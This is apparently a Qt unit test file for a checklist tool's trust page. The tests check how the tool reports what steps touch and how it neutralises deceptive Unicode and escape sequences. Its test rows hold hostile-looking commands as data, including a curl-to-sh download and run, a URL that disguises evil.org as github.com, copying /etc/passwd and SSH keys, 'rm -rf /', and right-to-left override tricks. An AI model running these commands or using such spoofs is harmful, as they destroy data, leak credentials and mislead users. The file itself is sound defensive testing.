// SPDX-License-Identifier: MIT
#include "core/checklist/lint.h"
#include "core/steps/registry.h"
#include "core/trust/harmless.h"
#include "core/trust/trustquestion.h"

#include <QTemporaryDir>
#include <QTest>

using namespace Slipway;

/// What the page of trust says of real kinds of step.
class TestTouches : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void aStepTouches_data();
    void aStepTouches();
    void everyKindSaysWhatItReaches();
    void whatWasThereBeforeIsNotNew();
    void whatChangedIsShown();
    void hostileTextIsHarmless_data();
    void hostileTextIsHarmless();
    void aLongTextIsCutAndSaysSo();

private:
    Checklist read(const QByteArray &steps, const QByteArray &inputs = {}) const;
    QStringList lines(const Touches &touches) const;

    Catalogue m_catalogue;
};

namespace {

QString letter(Reach what)
{
    return QStringList{QStringLiteral("program"), QStringLiteral("host"), QStringLiteral("path"),
                       QStringLiteral("image"), QStringLiteral("secret")}
        .value(int(what));
}

} // namespace

void TestTouches::initTestCase()
{
    KindRegistry kinds;
    registerBuiltinKinds(kinds);
    m_catalogue = kinds.catalogue();
}

Checklist TestTouches::read(const QByteArray &steps, const QByteArray &inputs) const
{
    const auto read = readChecklist("slipway: 1\nname: x\ninputs:\n  repo: {type: directory, "
                                    "default: /srv/repo}\n  host: {type: text}\n" +
                                        inputs + "stages: [{name: s, steps: [" + steps + "]}]\n",
                                    QStringLiteral("/nowhere/a.checklist.yaml"));
    if (!read.checklist)
        qFatal("%s", qPrintable(read.errors.first().message()));
    return *read.checklist;
}

QStringList TestTouches::lines(const Touches &touches) const
{
    QStringList all;
    for (const Touched &touched : touches.things) {
        QString line = letter(touched.what) + QLatin1String(": ") + touched.text.english();
        if (!touched.note.isEmpty())
            line += QStringLiteral(" (%1)").arg(touched.note.english());
        all.append(line);
    }
    if (touches.usesEngine)
        all.append(QStringLiteral("engine"));
    if (touches.usesShell)
        all.append(QStringLiteral("shell"));
    all.sort();
    return all;
}

void TestTouches::aStepTouches_data()
{
    QTest::addColumn<QByteArray>("step");
    QTest::addColumn<QStringList>("expected");
    const auto row = [](const char *name, const char *step,
                        const std::initializer_list<const char *> &expected) {
        QStringList lines;
        for (const char *line : expected)
            lines.append(QString::fromUtf8(line));
        QTest::newRow(name) << QByteArray(step) << lines;
    };
    row("program", "{id: a, uses: command, with: {run: [./b.sh, 'two words']}}",
        {"program: ./b.sh 'two words'"});
    row("shell", "{id: a, uses: command, with: {shell: true, run: ['curl http://x.org/a | sh']}}",
        {"host: http://x.org", "program: bash -c 'curl http://x.org/a | sh'", "shell"});
    row("inputs stay", "{id: a, uses: command, with: {run: [ls, '${{ inputs.repo }}']}}",
        {"program: ls ${{ inputs.repo }}"});
    row("address with an input",
        "{id: a, uses: command, with: {run: [curl, 'https://${{ inputs.host }}:8/x']}}",
        {"host: https://${{ inputs.host }}:8", "program: curl https://${{ inputs.host }}:8/x"});
    row("a user who looks like a server",
        "{id: a, uses: command, with: {run: [curl, 'https://github.com@evil.org/x']}}",
        {"host: https://evil.org", "program: curl https://github.com@evil.org/x"});
    row("places",
        "{id: a, uses: command, with: {run: [cp, /etc/passwd, ~/.ssh/id, ../x, '--to=/tmp/y']}}",
        {"path: ../x", "path: /etc/passwd", "path: /tmp/y", "path: ~/.ssh/id",
         "program: cp /etc/passwd ~/.ssh/id ../x --to=/tmp/y"});
    row("environment",
        "{id: a, uses: git.push, with: {in: '${{ inputs.repo }}'}, env: {GIT_SSH_COMMAND: evil}}",
        {"host: origin", "path: ${{ inputs.repo }} (/srv/repo unless another is given)",
         "program: GIT_SSH_COMMAND=evil git"});
    row("probe", "{id: a, uses: command, with: {run: [make]}, probe: {run: [./done.sh]}}",
        {"program: ./done.sh", "program: make"});
    row("undo",
        "{id: a, uses: command, with: {run: [make]}, undo: {uses: command, with: {run: [back]}}}",
        {"program: back", "program: make"});
    row("docker by command", "{id: a, uses: command, with: {run: [/usr/bin/docker, ps]}}",
        {"engine", "path: /usr/bin/docker", "program: /usr/bin/docker ps"});
    row("image", "{id: a, uses: docker.build, with: {in: ., tags: ['x/y:1']}}",
        {"engine", "host: the registries of the images", "image: x/y:1", "path: .",
         "path: Dockerfile", "program: docker"});
    row("login",
        "{id: a, uses: docker.login, with: {registry: r.org, user: u, password-variable: PW}}",
        {"engine", "host: r.org", "program: docker", "secret: PW"});
    row("address", "{id: a, uses: http.check, with: {url: 'https://a.org/health?x=1'}}",
        {"host: https://a.org"});
    row("a person", "{id: a, uses: manual, with: {commands: [rm -rf /]}}", {});
    row("manual mode", "{id: a, uses: command, mode: manual, with: {run: [make]}}",
        {"program: make"});
}

void TestTouches::aStepTouches()
{
    QFETCH(QByteArray, step);
    QFETCH(QStringList, expected);
    const Touches touches = Touches::of(read(step), m_catalogue);
    expected.sort();
    QCOMPARE(lines(touches).join(u'\n'), expected.join(u'\n'));
    for (const Touched &touched : touches.things)
        QCOMPARE(touched.steps, QStringList{QStringLiteral("a")});
}

/// A kind that runs programs and says nothing would be missing on the page.
void TestTouches::everyKindSaysWhatItReaches()
{
    const QStringList inProcess{QStringLiteral("changelog.check"), QStringLiteral("check"),
                                QStringLiteral("files.copy"),      QStringLiteral("files.delete"),
                                QStringLiteral("files.replace"),   QStringLiteral("http.check"),
                                QStringLiteral("packages.pin"),    QStringLiteral("packages.unpin"),
                                QStringLiteral("packages.same"),   QStringLiteral("version.bump")};
    for (const KindSpec &kind : m_catalogue) {
        const bool namesProgram =
            std::any_of(kind.reaches.cbegin(), kind.reaches.cend(),
                        [](const Reached &reached) { return reached.what == Reach::Program; });
        QVERIFY2(namesProgram || kind.doer != Doer::Machine || inProcess.contains(kind.name),
                 qPrintable(kind.name));
        for (const Reached &reached : kind.reaches)
            QVERIFY2(reached.parameter.isEmpty() || kind.parameter(reached.parameter),
                     qPrintable(kind.name + u' ' + reached.parameter));
    }
}

void TestTouches::whatWasThereBeforeIsNotNew()
{
    const Touches before =
        Touches::of(read("{id: a, uses: command, with: {run: [make]}}"), m_catalogue);
    Touches now = Touches::of(read("{id: b, uses: command, with: {run: [make]}}, "
                                   "{id: c, uses: command, with: {run: [evil]}}"),
                              m_catalogue);
    now.markNew(before);
    QCOMPARE(now.things.size(), 2);
    QVERIFY(!now.things[0].isNew);
    QVERIFY(now.things[1].isNew);
}

void TestTouches::whatChangedIsShown()
{
    const QTemporaryDir folder;
    const TrustStore store(
        Places(folder.filePath(QStringLiteral("data")), folder.path(), folder.path()));
    const Checklist first = read("{id: a, uses: command, with: {run: [make]}}");
    const QByteArray text = "not read again";
    QVERIFY(store.trust(
        TrustQuestion::of(first, text, m_catalogue, store).record(QStringLiteral("ana"), 1)));
    QVERIFY(TrustQuestion::of(first, text, m_catalogue, store).isTrusted());
    QCOMPARE(TrustQuestion::of(first, text, m_catalogue, store).changes().size(), 0);
    const auto changed = TrustQuestion::of(first, text + '!', m_catalogue, store);
    QVERIFY(!changed.isTrusted());
    QCOMPARE(changed.changes().size(), 1);
    QCOMPARE(changed.changes().first().before, text);
    QCOMPARE(changed.changes().first().after, text + '!');
}

void TestTouches::hostileTextIsHarmless_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("shown");
    const auto row = [](const char *name, const char *text, const char *shown) {
        QTest::newRow(name) << QString::fromUtf8(text) << QString::fromUtf8(shown);
    };
    row("plain", "push à main 漢字", "push à main 漢字");
    row("right to left override", "a\u202etxt.exe", "a<U+202E>txt.exe");
    row("isolate", "\u2066x\u2069", "<U+2066>x<U+2069>");
    row("arabic letter mark", "\u061c", "<U+061C>");
    row("escape", "\033[2Jx", "<U+001B>[2Jx");
    row("line end", "a\nb\rc", "a<U+000A>b<U+000D>c");
    row("zero width", "a\u200bb\ufeffc\u00add", "a<U+200B>b<U+FEFF>c<U+00AD>d");
    row("line separator", "a\u2028b", "a<U+2028>b");
    row("no-break space", "a\u00a0b", "a<U+00A0>b");
    row("filler", "\u3164\u2800", "<U+3164><U+2800>");
    row("tag", "\U000e0041", "<U+E0041>");
    row("c1", "\u009b2J", "<U+009B>2J");
    row("marks", "a\u0301\u0301\u0301\u0301", "a\u0301\u0301\u0301<U+0301>");
}

void TestTouches::hostileTextIsHarmless()
{
    QFETCH(QString, text);
    QFETCH(QString, shown);
    QCOMPARE(harmless(text), shown);
}

void TestTouches::aLongTextIsCutAndSaysSo()
{
    QCOMPARE(harmless(QString(1'000'000, u'x'), false, 5), QStringLiteral("xxxxx … (+999995)"));
    QCOMPARE(harmless(QStringLiteral("a\nb"), true), QStringLiteral("a\nb"));
}

QTEST_GUILESS_MAIN(TestTouches)
#include "tst_touches.moc"
